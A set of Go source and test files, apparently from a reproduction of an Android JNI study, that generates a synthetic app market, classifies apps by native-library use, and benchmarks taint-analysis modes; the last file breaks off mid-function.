	return MarketParams{
		Total:            227911,
		TypeI:            37506,
		TypeINoLibs:      4034,
		TypeINoLibsAdMob: 1940, // 48.1% of 4,034
		TypeII:           1738,
		TypeIIWithLoader: 394,
		TypeIIIGame:      11,
		TypeIIIEnt:       5,
		Seed:             1,
	}
}

// Scaled returns the paper marginals scaled down by factor (for tests and
// benches), keeping every population non-empty.
func Scaled(factor int) MarketParams {
	p := PaperParams()
	scale := func(n int) int {
		v := n / factor
		if v < 1 {
			v = 1
		}
		return v
	}
	p.Total = scale(p.Total)
	p.TypeI = scale(p.TypeI)
	p.TypeINoLibs = scale(p.TypeINoLibs)
	p.TypeINoLibsAdMob = scale(p.TypeINoLibsAdMob)
	p.TypeII = scale(p.TypeII)
	p.TypeIIWithLoader = scale(p.TypeIIWithLoader)
	p.TypeIIIGame = scale(p.TypeIIIGame)
	p.TypeIIIEnt = scale(p.TypeIIIEnt)
	return p
}

// CategoryShare is the Fig. 2 Type I category distribution (percent). The
// figure's six labeled slices are Game 42%, Tools 5%, Entertainment 5%,
// Personalization, Communication and Music And Audio 4% each; the remaining
// slices are reconstructed to match the figure's 3%/2% band structure.
var CategoryShare = []struct {
	Name    string
	Percent int
}{
	{"Game", 42},
	{"Tools", 5},
	{"Entertainment", 5},
	{"Personalization", 4},
	{"Communication", 4},
	{"Music And Audio", 4},
	{"Books And Reference", 3},
	{"Business", 3},
	{"Education", 3},
	{"Lifestyle", 3},
	{"Productivity", 3},
	{"Sports", 3},
	{"Travel And Local", 3},
	{"Finance", 2},
	{"Health And Fitness", 2},
	{"News And Magazines", 2},
	{"Photography", 2},
	{"Social", 2},
	{"Media And Video", 2},
	{"Shopping", 2},
	{"Others", 1},
}

// PopularLibs is the §III-A library inventory: game engines, audio/video
// processing, and NDK/system libraries bundled for compatibility.
var PopularLibs = []struct {
	Name   string
	Weight int
	Kind   string // "game-engine", "media", "bundled-system"
}{
	{"libunity.so", 30, "game-engine"},
	{"libgdx.so", 14, "game-engine"},
	{"libbox2d.so", 10, "game-engine"},
	{"libcocos2d.so", 10, "game-engine"},
	{"libmono.so", 8, "game-engine"},
	{"libffmpeg.so", 7, "media"},
	{"libvlcjni.so", 4, "media"},
	{"libopenal.so", 4, "media"},
	{"libstlport_shared.so", 5, "bundled-system"},
	{"libcore.so", 3, "bundled-system"},
	{"libstagefright_froyo.so", 3, "bundled-system"},
	{"libcrypto.so", 2, "bundled-system"},
}

// admobClasses are the eight AdMob plugin classes of §III-A, identified
// among Type I apps without packaged libraries.
var admobClasses = []string{
	"Lcom/google/ads/AdActivity;",
	"Lcom/google/ads/AdView;",
	"Lcom/google/ads/AdRequest;",
	"Lcom/google/ads/AdSize;",
	"Lcom/google/ads/InterstitialAd;",
	"Lcom/google/ads/AdListener;",
	"Lcom/google/ads/mediation/MediationAdapter;",
	"Lcom/google/ads/util/AdUtil;",
}

// Generate streams the synthetic market app by app so the 227,911-app study
// runs in constant memory. The emit callback must not retain the APK.
func Generate(p MarketParams, emit func(*APK)) {
	rng := rand.New(rand.NewSource(p.Seed))

	emitN := func(n int, build func(i int) *APK) {
		for i := 0; i < n; i++ {
			emit(build(i))
		}
	}

	// --- Type I apps ---
	// Category quotas cover *all* Type I apps (Fig. 2 is over Type I).
	withLibs := p.TypeI - p.TypeINoLibs
	catCursor := 0
	catRemaining := 0
	nextCategory := func() string {
		for catRemaining == 0 && catCursor < len(CategoryShare) {
			catRemaining = p.TypeI * CategoryShare[catCursor].Percent / 100
			if catRemaining == 0 {
				catRemaining = 1
			}
			catCursor++
		}
		if catCursor > len(CategoryShare) || catRemaining == 0 {
			return "Others"
		}
		catRemaining--
		return CategoryShare[catCursor-1].Name
	}

	emitN(withLibs, func(i int) *APK {
		cat := nextCategory()
		a := &APK{
			Pkg:         fmt.Sprintf("com.market.t1.app%06d", i),
			Category:    cat,
			MainClasses: []*dex.Class{loaderClass(fmt.Sprintf("t1app%06d", i), pickLib(rng, cat))},
		}
		a.LibFiles = []string{"lib/armeabi/" + pickLib(rng, cat)}
		if rng.Intn(4) == 0 { // many apps bundle a second library
			a.LibFiles = append(a.LibFiles, "lib/armeabi/"+pickLib(rng, cat))
		}
		return a
	})

	// Type I apps with no packaged libraries (§III-A): AdMob-repackaged apps
	// first, then apps whose libraries are system-provided or vestigial.
	emitN(p.TypeINoLibsAdMob, func(i int) *APK {
		return &APK{
			Pkg:      fmt.Sprintf("com.market.t1admob.app%06d", i),
			Category: nextCategory(),
			MainClasses: []*dex.Class{
				loaderClass(fmt.Sprintf("admob%06d", i), "libGoogleAdMobAds.so"),
				admobPluginClass(i),
			},
		}
	})
	emitN(p.TypeINoLibs-p.TypeINoLibsAdMob, func(i int) *APK {
		return &APK{
			Pkg:         fmt.Sprintf("com.market.t1nolib.app%06d", i),
			Category:    nextCategory(),
			MainClasses: []*dex.Class{loaderClass(fmt.Sprintf("nolib%06d", i), "libsystem.so")},
		}
	})

	// --- Type II apps ---
	emitN(p.TypeIIWithLoader, func(i int) *APK {
		return &APK{
			Pkg:         fmt.Sprintf("com.market.t2loader.app%06d", i),
			Category:    "Communication",
			LibFiles:    []string{"assets/lib/" + pickLib(rng, "Communication")},
			MainClasses: []*dex.Class{plainClass(fmt.Sprintf("t2l%06d", i))},
			EmbeddedDex: []*dex.Class{loaderClass(fmt.Sprintf("hidden%06d", i), "libcore_logic.so")},
		}
	})
	emitN(p.TypeII-p.TypeIIWithLoader, func(i int) *APK {
		return &APK{
			Pkg:         fmt.Sprintf("com.market.t2.app%06d", i),
			Category:    "Tools",
			LibFiles:    []string{"lib/x86/" + pickLib(rng, "Tools")}, // wrong-ABI leftovers
			MainClasses: []*dex.Class{plainClass(fmt.Sprintf("t2%06d", i))},
		}
	})

	// --- Type III apps ---
	emitN(p.TypeIIIGame, func(i int) *APK {
		return &APK{
			Pkg:            fmt.Sprintf("com.market.t3game.app%02d", i),
			Category:       "Game",
			LibFiles:       []string{"lib/armeabi/libmain.so"},
			NativeActivity: true,
		}
	})
	emitN(p.TypeIIIEnt, func(i int) *APK {
		return &APK{
			Pkg:            fmt.Sprintf("com.market.t3ent.app%02d", i),
			Category:       "Entertainment",
			LibFiles:       []string{"lib/armeabi/libmain.so"},
			NativeActivity: true,
		}
	})

	// --- pure-Java remainder ---
	rest := p.Total - p.TypeI - p.TypeII - p.TypeIIIGame - p.TypeIIIEnt
	emitN(rest, func(i int) *APK {
		return &APK{
			Pkg:         fmt.Sprintf("com.market.java.app%06d", i),
			Category:    CategoryShare[rng.Intn(len(CategoryShare))].Name,
			MainClasses: []*dex.Class{plainClass(fmt.Sprintf("j%06d", i))},
		}
	})
}

// pickLib draws a library name weighted toward the app's category.
func pickLib(rng *rand.Rand, category string) string {
	total := 0
	for _, l := range PopularLibs {
		w := l.Weight
		if category == "Game" && l.Kind == "game-engine" {
			w *= 3
		}
		if category == "Music And Audio" && l.Kind == "media" {
			w *= 6
		}
		total += w
	}
	n := rng.Intn(total)
	for _, l := range PopularLibs {
		w := l.Weight
		if category == "Game" && l.Kind == "game-engine" {
			w *= 3
		}
		if category == "Music And Audio" && l.Kind == "media" {
			w *= 6
		}
		if n < w {
			return l.Name
		}
		n -= w
	}
	return PopularLibs[0].Name
}

// loaderClass builds a class whose static initializer genuinely invokes
// System.loadLibrary — what the analyzer's bytecode scan looks for.
func loaderClass(tag, lib string) *dex.Class {
	cb := dex.NewClass("Lcom/market/" + tag + "/MainActivity;")
	name := lib
	if len(name) > 6 && name[:3] == "lib" {
		name = name[3 : len(name)-3] // "libfoo.so" -> "foo"
	}
	cb.Method("<clinit>", "V", dex.AccStatic, 1).
		ConstString(0, name).
		InvokeStatic("Ljava/lang/System;", "loadLibrary", "VL", 0).
		ReturnVoid().
		Done()
	cb.NativeMethod("nativeInit", "V", dex.AccStatic, 0)
	return cb.Build()
}

// plainClass builds a class with ordinary bytecode and no JNI use.
func plainClass(tag string) *dex.Class {
	cb := dex.NewClass("Lcom/market/" + tag + "/MainActivity;")
	cb.Method("onCreate", "V", dex.AccStatic, 2).
		Const(0, 1).
		Const(1, 2).
		Bin(dex.Add, 0, 0, 1).
		ReturnVoid().
		Done()
	return cb.Build()
}

// admobPluginClass builds one of the AdMob plugin classes carrying native
// method declarations (§III-A).
func admobPluginClass(i int) *dex.Class {
	cb := dex.NewClass(admobClasses[i%len(admobClasses)])
	cb.NativeMethod("a", "V", dex.AccStatic, 0)
	return cb.Build()
}
