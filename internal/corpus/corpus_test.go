package corpus

import (
	"math"
	"reflect"
	"testing"

	"repro/internal/dex"
)

func TestClassifyTypeI(t *testing.T) {
	a := &APK{MainClasses: []*dex.Class{loaderClass("x", "libfoo.so")}}
	if Classify(a) != KindI {
		t.Error("loadLibrary invocation should classify as Type I")
	}
}

func TestClassifyTypeII(t *testing.T) {
	a := &APK{
		LibFiles:    []string{"lib/x86/libbar.so"},
		MainClasses: []*dex.Class{plainClass("y")},
	}
	if Classify(a) != KindII {
		t.Error("packaged lib without load should classify as Type II")
	}
}

func TestClassifyTypeIII(t *testing.T) {
	a := &APK{NativeActivity: true, LibFiles: []string{"lib/armeabi/libmain.so"}}
	if Classify(a) != KindIII {
		t.Error("pure native app should classify as Type III")
	}
}

func TestClassifyNone(t *testing.T) {
	a := &APK{MainClasses: []*dex.Class{plainClass("z")}}
	if Classify(a) != KindNone {
		t.Error("plain Java app misclassified")
	}
}

func TestLoaderDexDetection(t *testing.T) {
	a := &APK{
		LibFiles:    []string{"assets/lib/libx.so"},
		MainClasses: []*dex.Class{plainClass("m")},
		EmbeddedDex: []*dex.Class{loaderClass("hidden", "libx.so")},
	}
	if Classify(a) != KindII {
		t.Fatal("should be Type II")
	}
	if !HasLoaderDex(a) {
		t.Error("embedded loader dex not detected")
	}
}

func TestScanIsBytecodeBased(t *testing.T) {
	// A class that *mentions* System in a string but never invokes
	// loadLibrary must not classify as Type I.
	cb := dex.NewClass("Lcom/test/Fake;")
	cb.Method("m", "V", dex.AccStatic, 1).
		ConstString(0, "java/lang/System loadLibrary").
		ReturnVoid().
		Done()
	a := &APK{MainClasses: []*dex.Class{cb.Build()}}
	if Classify(a) == KindI {
		t.Error("string mention should not classify as Type I")
	}
}

// TestPaperMarginals regenerates the full market and checks every §III
// number is recovered by the analyzer.
func TestPaperMarginals(t *testing.T) {
	if testing.Short() {
		t.Skip("full 227,911-app market")
	}
	s := Analyze(PaperParams())
	checks := []struct {
		name string
		got  int
		want int
	}{
		{"total", s.Total, 227911},
		{"type I", s.TypeI, 37506},
		{"type I no libs", s.TypeINoLibs, 4034},
		{"type I no libs AdMob", s.TypeINoLibsAdMob, 1940},
		{"type II", s.TypeII, 1738},
		{"type II with loader", s.TypeIIWithLoader, 394},
		{"type III", s.TypeIII, 16},
		{"type III game", s.TypeIIICategories["Game"], 11},
		{"type III entertainment", s.TypeIIICategories["Entertainment"], 5},
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %d, want %d", c.name, c.got, c.want)
		}
	}
	if p := s.TypeIPercent(); math.Abs(p-16.46) > 0.05 {
		t.Errorf("Type I share = %.2f%%, want ~16.46%%", p)
	}
	if p := s.AdMobPercent(); math.Abs(p-48.1) > 0.2 {
		t.Errorf("AdMob share = %.1f%%, want ~48.1%%", p)
	}
	if p := s.GamePercent(); math.Abs(p-42) > 1.0 {
		t.Errorf("Game share = %.1f%%, want ~42%%", p)
	}
}

func TestScaledMarketShape(t *testing.T) {
	s := Analyze(Scaled(100))
	if s.TypeI == 0 || s.TypeII == 0 || s.TypeIII == 0 {
		t.Fatalf("scaled market lost populations: %+v", s)
	}
	if p := s.TypeIPercent(); math.Abs(p-16.46) > 1.0 {
		t.Errorf("scaled Type I share = %.2f%%", p)
	}
	if s.CategoryDist["Game"] == 0 {
		t.Error("no Game category apps")
	}
	top := s.TopLibs(5)
	if len(top) < 5 {
		t.Fatalf("too few libraries: %v", top)
	}
	if top[0] != "libunity.so" {
		t.Errorf("most popular lib = %s, want libunity.so (game engines dominate)", top[0])
	}
}

func TestReportRenders(t *testing.T) {
	s := Analyze(Scaled(500))
	r := s.Report()
	for _, want := range []string{"Type I", "Type II", "Type III", "Fig. 2", "libunity.so"} {
		if !containsStr(r, want) {
			t.Errorf("report missing %q:\n%s", want, r)
		}
	}
}

func containsStr(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}

// TestAnalyzeParallelMatchesSequential: the worker-pool scan must reproduce
// the sequential aggregate exactly — every counter and every histogram —
// regardless of worker count, so the Fig. 2 / §III numbers are unchanged.
func TestAnalyzeParallelMatchesSequential(t *testing.T) {
	p := Scaled(100)
	want := Analyze(p)
	for _, workers := range []int{0, 1, 2, 4, 7} {
		got := AnalyzeParallel(p, workers)
		if !reflect.DeepEqual(got, want) {
			t.Errorf("workers=%d: parallel scan diverges from sequential\ngot:  %+v\nwant: %+v",
				workers, got, want)
		}
	}
}

func TestGenerateDeterministic(t *testing.T) {
	p := Scaled(1000)
	var first, second []string
	Generate(p, func(a *APK) { first = append(first, a.Pkg+"/"+a.Category) })
	Generate(p, func(a *APK) { second = append(second, a.Pkg+"/"+a.Category) })
	if len(first) != len(second) {
		t.Fatal("nondeterministic length")
	}
	for i := range first {
		if first[i] != second[i] {
			t.Fatalf("nondeterministic at %d: %s vs %s", i, first[i], second[i])
		}
	}
}
