package corpus

import (
	"fmt"
	"runtime"
	"sort"
	"strings"
	"sync"
)

// Stats aggregates the §III study results.
type Stats struct {
	Total   int
	TypeI   int
	TypeII  int
	TypeIII int

	TypeINoLibs      int
	TypeINoLibsAdMob int
	TypeIIWithLoader int

	TypeIIICategories map[string]int

	// CategoryDist buckets Type I apps by market category (Fig. 2).
	CategoryDist map[string]int

	// LibCounts is the §III-A library-popularity histogram over Type I apps.
	LibCounts map[string]int

	// NativeDeclClasses counts, over Type I apps without packaged libraries,
	// how many apps declare native methods in each class (the AdMob finding).
	NativeDeclClasses map[string]int
}

func newStats() *Stats {
	return &Stats{
		TypeIIICategories: make(map[string]int),
		CategoryDist:      make(map[string]int),
		LibCounts:         make(map[string]int),
		NativeDeclClasses: make(map[string]int),
	}
}

// Analyze runs the static analysis over a generated market.
func Analyze(p MarketParams) *Stats {
	s := newStats()
	Generate(p, func(a *APK) { s.Add(a) })
	return s
}

// AnalyzeParallel is Analyze with the per-app classification fanned out to a
// bounded worker pool. Generation stays on the caller's goroutine — the
// generator's RNG and category quotas are stateful, so emission order is part
// of the market definition — but Classify/Add are pure per-app work and Add's
// aggregation is commutative, so each worker accumulates a private Stats and
// the shards merge order-independently. workers <= 0 means GOMAXPROCS.
func AnalyzeParallel(p MarketParams, workers int) *Stats {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers == 1 {
		return Analyze(p)
	}
	apks := make(chan *APK, 4*workers)
	shards := make([]*Stats, workers)
	var wg sync.WaitGroup
	for i := range shards {
		s := newStats()
		shards[i] = s
		wg.Add(1)
		go func() {
			defer wg.Done()
			for a := range apks {
				s.Add(a)
			}
		}()
	}
	// Generate builds a fresh APK per emit, so handing the pointer to a
	// worker is safe despite the no-retention note on Generate.
	Generate(p, func(a *APK) { apks <- a })
	close(apks)
	wg.Wait()
	total := newStats()
	for _, s := range shards {
		total.Merge(s)
	}
	return total
}

// Merge folds another shard into s. All Stats fields are sums or
// sum-valued maps, so merging is commutative and associative.
func (s *Stats) Merge(o *Stats) {
	s.Total += o.Total
	s.TypeI += o.TypeI
	s.TypeII += o.TypeII
	s.TypeIII += o.TypeIII
	s.TypeINoLibs += o.TypeINoLibs
	s.TypeINoLibsAdMob += o.TypeINoLibsAdMob
	s.TypeIIWithLoader += o.TypeIIWithLoader
	for k, v := range o.TypeIIICategories {
		s.TypeIIICategories[k] += v
	}
	for k, v := range o.CategoryDist {
		s.CategoryDist[k] += v
	}
	for k, v := range o.LibCounts {
		s.LibCounts[k] += v
	}
	for k, v := range o.NativeDeclClasses {
		s.NativeDeclClasses[k] += v
	}
}

// Add classifies one app into the aggregate.
func (s *Stats) Add(a *APK) {
	s.Total++
	switch Classify(a) {
	case KindI:
		s.TypeI++
		s.CategoryDist[a.Category]++
		if len(a.LibFiles) == 0 {
			s.TypeINoLibs++
			for _, cls := range HasNativeDecls(a.MainClasses) {
				s.NativeDeclClasses[cls]++
				if strings.HasPrefix(cls, "Lcom/google/ads/") {
					s.TypeINoLibsAdMob++
					break
				}
			}
		}
		for _, f := range a.LibFiles {
			idx := strings.LastIndexByte(f, '/')
			s.LibCounts[f[idx+1:]]++
		}
	case KindII:
		s.TypeII++
		if HasLoaderDex(a) {
			s.TypeIIWithLoader++
		}
	case KindIII:
		s.TypeIII++
		s.TypeIIICategories[a.Category]++
	}
}

// TypeIPercent is the share of apps using JNI (the paper: 16.46%).
func (s *Stats) TypeIPercent() float64 {
	if s.Total == 0 {
		return 0
	}
	return 100 * float64(s.TypeI) / float64(s.Total)
}

// AdMobPercent is the AdMob share among lib-less Type I apps (paper: 48.1%).
func (s *Stats) AdMobPercent() float64 {
	if s.TypeINoLibs == 0 {
		return 0
	}
	return 100 * float64(s.TypeINoLibsAdMob) / float64(s.TypeINoLibs)
}

// GamePercent is the Game share of Fig. 2 (paper: 42%).
func (s *Stats) GamePercent() float64 {
	if s.TypeI == 0 {
		return 0
	}
	return 100 * float64(s.CategoryDist["Game"]) / float64(s.TypeI)
}

// TopLibs returns the n most popular native libraries (§III-A).
func (s *Stats) TopLibs(n int) []string {
	type kv struct {
		name  string
		count int
	}
	var all []kv
	for name, c := range s.LibCounts {
		all = append(all, kv{name, c})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].count != all[j].count {
			return all[i].count > all[j].count
		}
		return all[i].name < all[j].name
	})
	if n > len(all) {
		n = len(all)
	}
	out := make([]string, n)
	for i := 0; i < n; i++ {
		out[i] = all[i].name
	}
	return out
}

// Report renders the Section III summary.
func (s *Stats) Report() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Apps crawled:                %8d\n", s.Total)
	fmt.Fprintf(&b, "Type I   (call loadLibrary): %8d (%.2f%%)\n", s.TypeI, s.TypeIPercent())
	fmt.Fprintf(&b, "  without packaged libs:     %8d\n", s.TypeINoLibs)
	fmt.Fprintf(&b, "    with AdMob plugin:       %8d (%.1f%%)\n", s.TypeINoLibsAdMob, s.AdMobPercent())
	fmt.Fprintf(&b, "Type II  (libs, no load):    %8d\n", s.TypeII)
	fmt.Fprintf(&b, "  with loader dex:           %8d\n", s.TypeIIWithLoader)
	fmt.Fprintf(&b, "Type III (pure native):      %8d", s.TypeIII)
	if len(s.TypeIIICategories) > 0 {
		fmt.Fprintf(&b, " (")
		var cats []string
		for c := range s.TypeIIICategories {
			cats = append(cats, c)
		}
		sort.Strings(cats)
		for i, c := range cats {
			if i > 0 {
				fmt.Fprintf(&b, ", ")
			}
			fmt.Fprintf(&b, "%d %s", s.TypeIIICategories[c], strings.ToLower(c))
		}
		fmt.Fprintf(&b, ")")
	}
	fmt.Fprintf(&b, "\n\nFig. 2 — Type I category distribution:\n")
	type kv struct {
		name string
		n    int
	}
	var cats []kv
	for c, n := range s.CategoryDist {
		cats = append(cats, kv{c, n})
	}
	sort.Slice(cats, func(i, j int) bool {
		if cats[i].n != cats[j].n {
			return cats[i].n > cats[j].n
		}
		return cats[i].name < cats[j].name
	})
	for _, c := range cats {
		pct := 0.0
		if s.TypeI > 0 {
			pct = 100 * float64(c.n) / float64(s.TypeI)
		}
		fmt.Fprintf(&b, "  %-22s %7d (%4.1f%%)\n", c.name, c.n, pct)
	}
	fmt.Fprintf(&b, "\nTop native libraries:\n")
	for _, l := range s.TopLibs(10) {
		fmt.Fprintf(&b, "  %-26s %6d\n", l, s.LibCounts[l])
	}
	return b.String()
}
