package cfbench

import "testing"

// TestThroughputSweep runs the snapshot ablation once over the corpus under
// a tight budget: both arms must complete, parity must hold, and the
// snapshot arm must actually serve resets rather than rebooting.
func TestThroughputSweep(t *testing.T) {
	res, err := ThroughputSweep(1<<21, 1, true, true)
	if err != nil {
		t.Fatal(err)
	}
	if !res.ParityOK {
		t.Fatalf("parity mismatch: %s", res.ParityDetail)
	}
	if res.Fresh == nil || res.Snapshot == nil {
		t.Fatal("missing an ablation arm")
	}
	if res.Fresh.Apps != res.Snapshot.Apps {
		t.Fatalf("arm sizes differ: %d vs %d", res.Fresh.Apps, res.Snapshot.Apps)
	}
	if res.Snapshot.Resets == 0 {
		t.Error("snapshot arm served no resets")
	}
	if res.Snapshot.Boots != 1 {
		t.Errorf("snapshot arm booted %d times, want 1", res.Snapshot.Boots)
	}
	if res.Snapshot.GuestPagesPerReset <= 0 {
		t.Error("snapshot arm reports no per-reset page cost")
	}
}

// TestThroughputSweepSingleArm checks the on/off flag shapes: a single arm
// reports throughput but no speedup or parity verdict.
func TestThroughputSweepSingleArm(t *testing.T) {
	res, err := ThroughputSweep(1<<21, 1, false, true)
	if err != nil {
		t.Fatal(err)
	}
	if res.Fresh != nil {
		t.Error("fresh arm present on snapshot-only run")
	}
	if res.Speedup != 0 {
		t.Errorf("speedup = %v on single-arm run, want 0", res.Speedup)
	}
	if res.Snapshot == nil || res.Snapshot.AppsPerSec <= 0 {
		t.Error("snapshot arm missing or reports no throughput")
	}
}
