package cfbench

import (
	"bytes"
	"fmt"
	"testing"

	"repro/internal/apps"
	"repro/internal/arm"
	"repro/internal/core"
	"repro/internal/kernel"
)

// decoded is one instruction observed by the CPU's decode hook, with the
// exact guest bytes it was decoded from.
type decoded struct {
	pc    uint32
	thumb bool
	raw   []byte
	insn  arm.Insn
}

// hookDecodes attaches a DecodeHook that records every decoded instruction
// (deduplicated on address+mode+bytes, so self-modified re-decodes are kept).
func hookDecodes(sys *core.System, set map[string]decoded) {
	sys.CPU.DecodeHook = func(pc uint32, thumb bool, insn arm.Insn) {
		var raw []byte
		if thumb {
			h0 := sys.CPU.Mem.Read16(pc)
			raw = []byte{byte(h0), byte(h0 >> 8)}
			if insn.Size == 4 {
				h1 := sys.CPU.Mem.Read16(pc + 2)
				raw = append(raw, byte(h1), byte(h1>>8))
			}
		} else {
			w := sys.CPU.Mem.Read32(pc)
			raw = []byte{byte(w), byte(w >> 8), byte(w >> 16), byte(w >> 24)}
		}
		key := fmt.Sprintf("%x:%t:%x", pc, thumb, raw)
		if _, ok := set[key]; !ok {
			set[key] = decoded{pc: pc, thumb: thumb, raw: raw, insn: insn}
		}
	}
}

// TestDisasmRoundTripCorpus is the corpus-wide disassembler check: every
// instruction the CPU decodes during the Fig. 10 workload suite, the benign
// evaluation apps, and the Thumb libc variant must disassemble to text that
// re-assembles (at the same address, in the same mode) to the identical
// bits. Any Disasm/Assemble disagreement is a real bug in one of them.
func TestDisasmRoundTripCorpus(t *testing.T) {
	set := make(map[string]decoded)

	// Stage 1: the Fig. 10 workload suite (scaled down — the decode set
	// depends on the code, not the iteration count).
	for _, w := range Workloads() {
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := w.install(sys, 100); err != nil {
			t.Fatalf("%s: install: %v", w.Name, err)
		}
		sys.Kern.FS.WriteFile("/data/cfbench.dat", make([]byte, 1024*(opsDisk/100)+1024))
		core.NewAnalyzer(sys, core.ModeNDroid)
		hookDecodes(sys, set)
		if _, _, thrown, err := sys.VM.InvokeByName(w.entryClass, "run", nil, nil); err != nil {
			t.Fatalf("%s: %v", w.Name, err)
		} else if thrown != nil {
			t.Fatalf("%s threw", w.Name)
		}
	}

	// Stage 2: the benign evaluation apps (the hostile apps deliberately
	// execute junk bytes, which are out of scope for a disassembler check).
	for _, app := range apps.Registry() {
		sys, err := core.NewSystem()
		if err != nil {
			t.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			t.Fatalf("%s: install: %v", app.Name, err)
		}
		core.NewAnalyzer(sys, core.ModeNDroid)
		hookDecodes(sys, set)
		if err := app.Run(sys); err != nil {
			t.Fatalf("%s: run: %v", app.Name, err)
		}
	}

	// Stage 3: the Thumb-encoded libc variant, so both instruction sets are
	// exercised even though the corpus apps link the ARM bodies.
	runThumbStrlen(t, set)

	arms, thumbs := 0, 0
	for _, d := range set {
		if d.thumb {
			thumbs++
		} else {
			arms++
		}
	}
	if arms == 0 {
		t.Fatal("no ARM instructions recorded — decode hook dead?")
	}
	if thumbs == 0 {
		t.Fatal("no Thumb instructions recorded — decode hook dead?")
	}
	t.Logf("round-tripping %d unique decodes (%d ARM, %d Thumb)", len(set), arms, thumbs)

	for _, d := range set {
		text := arm.Disasm(d.insn, d.pc)
		mode := ".arm\n"
		if d.thumb {
			mode = ".thumb\n"
		}
		prog, err := arm.Assemble(mode+text+"\n", d.pc, nil)
		if err != nil {
			t.Errorf("%08x %s: reassembly failed: %v (bytes % x)", d.pc, text, err, d.raw)
			continue
		}
		if !bytes.Equal(prog.Code, d.raw) {
			t.Errorf("%08x %s: round-trip mismatch: decoded % x, reassembled % x",
				d.pc, text, d.raw, prog.Code)
		}
	}
}

// runThumbStrlen drives the Thumb strlen variant on a freshly booted system
// the way guest code would reach it: args in registers, BLX via the
// interworking bit, run to the return pad.
func runThumbStrlen(t *testing.T, set map[string]decoded) {
	t.Helper()
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	hookDecodes(sys, set)
	addr, ok := sys.VM.Libc.Sym("strlen.tinsn")
	if !ok {
		t.Fatal("no strlen.tinsn symbol")
	}
	const str = 0x100000
	sys.CPU.Mem.WriteCString(str, "round trip")
	sys.CPU.R[0] = str
	sys.CPU.R[arm.LR] = kernel.ReturnPadBase
	sys.CPU.SetThumbPC(addr)
	if err := sys.CPU.RunUntil(kernel.ReturnPadBase, 1<<20); err != nil {
		t.Fatalf("thumb strlen: %v", err)
	}
	if sys.CPU.R[0] != 10 {
		t.Fatalf("thumb strlen = %d, want 10", sys.CPU.R[0])
	}
}
