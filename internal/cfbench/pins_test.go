package cfbench

import "testing"

// TestPinSweepPrecisionFloor locks the pin-precision acceptance bar: on
// every benign app the pre-analysis pins at least one method or native
// page, and the pinned variant actually dispatches during the gated run.
func TestPinSweepPrecisionFloor(t *testing.T) {
	rows, err := PinSweep(1 << 21)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) == 0 {
		t.Fatal("empty pin sweep")
	}
	for _, r := range rows {
		if r.Hostile {
			continue
		}
		if r.PinnedMethods == 0 && r.PinnedPages == 0 {
			t.Errorf("%s: nothing pinned (methods %d/%d, pages %d/%d)",
				r.App, r.PinnedMethods, r.Methods, r.PinnedPages, r.NativePages)
		}
		if r.PinnedFrames == 0 && r.PinnedBlocks == 0 {
			t.Errorf("%s: pins never dispatched dynamically (frames %d, blocks %d)",
				r.App, r.PinnedFrames, r.PinnedBlocks)
		}
		if r.PinnedMethods > r.Methods || r.PinnedPages > r.NativePages {
			t.Errorf("%s: pin counts exceed totals: %+v", r.App, r)
		}
	}
	if report := PinReport(rows); report == "" {
		t.Error("empty pin report")
	}
}
