package cfbench

// Throughput ablation for the fork-server execution model (ISSUE 6): sweep
// the full evaluation corpus across every analysis mode twice — once booting
// a fresh System per attempt, once serving attempts from one warm System via
// copy-on-write snapshot restores — and report apps-analyzed/sec for both
// arms plus the reset cost of the snapshot arm. The two arms must agree byte
// for byte on every flow log and verdict; a mismatch is a soundness bug, and
// cmd/cfbench exits nonzero on it (the CI bench-smoke gate).

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/apps"
	"repro/internal/core"
)

// ThroughputArm is one side of the snapshot ablation. The headline
// apps/sec covers the responsive corpus — apps that complete within the
// watchdog budget. Budget-bound apps (verdict timeout) burn their full
// instruction budget in either execution model, so they measure the watchdog
// knob, not the reset path; they run in both arms (and in the parity check)
// but are tallied separately.
type ThroughputArm struct {
	Snapshot   bool    `json:"snapshot"`
	Apps       int     `json:"apps"`    // responsive attempts measured
	Seconds    float64 `json:"seconds"` // wall clock for responsive attempts
	AppsPerSec float64 `json:"apps_per_sec"`

	BudgetBoundApps    int     `json:"budget_bound_apps,omitempty"`
	BudgetBoundSeconds float64 `json:"budget_bound_seconds,omitempty"`

	// Fork-server work counters; zero on the fresh arm.
	Boots              int     `json:"boots,omitempty"`
	Resets             int     `json:"resets,omitempty"`
	GuestPagesPerReset float64 `json:"guest_pages_per_reset,omitempty"`
	TaintPagesPerReset float64 `json:"taint_pages_per_reset,omitempty"`
}

// ThroughputResult is the full ablation.
type ThroughputResult struct {
	Fresh    *ThroughputArm `json:"fresh,omitempty"`
	Snapshot *ThroughputArm `json:"snapshot,omitempty"`

	// Speedup is snapshot apps/sec over fresh apps/sec.
	Speedup float64 `json:"speedup,omitempty"`

	// ParityOK records the soundness check: byte-identical flow logs and
	// equal verdicts for every (app, mode) cell across the two arms.
	ParityOK     bool   `json:"parity_ok"`
	ParityDetail string `json:"parity_detail,omitempty"`
}

// throughputOutcome is the parity unit: one (app, mode) cell.
type throughputOutcome struct {
	verdict core.Verdict
	log     string
}

func throughputModes() []core.Mode {
	return []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
}

// throughputArm sweeps apps x modes rounds times. The runner is nil for the
// fresh arm. Outcomes from the first round are returned for the parity check
// (later rounds must match by the determinism the study tests establish).
func throughputArm(budget uint64, rounds int, runner *core.Runner) (*ThroughputArm, map[string]throughputOutcome) {
	arm := &ThroughputArm{Snapshot: runner != nil}
	outcomes := map[string]throughputOutcome{}
	for r := 0; r < rounds; r++ {
		for _, mode := range throughputModes() {
			for _, app := range apps.AllApps() {
				start := time.Now()
				rep := core.AnalyzeApp(app.Spec(), core.AnalyzeOptions{
					Mode:    mode,
					Budget:  budget,
					FlowLog: true,
					Runner:  runner,
				})
				elapsed := time.Since(start).Seconds()
